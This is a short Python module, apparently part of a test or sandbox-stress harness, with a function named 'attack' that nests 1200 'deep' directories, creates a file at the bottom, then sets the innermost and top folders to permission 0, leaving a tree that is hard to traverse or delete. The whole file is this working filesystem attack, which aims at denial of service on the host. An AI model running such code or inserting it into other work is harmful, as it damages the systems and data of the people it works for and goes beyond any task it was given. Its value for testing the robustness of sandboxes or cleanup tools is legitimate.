"""Makes folders in folders until no path is long enough for them, and takes all permissions away."""

import os


def attack(targets):
    home = os.getcwd()
    for _ in range(1200):
        os.mkdir("deep")
        os.chdir("deep")
    open("bottom", "w").close()
    os.chmod(".", 0)
    os.chdir(home)
    os.chmod("deep", 0)
    yield "dug"
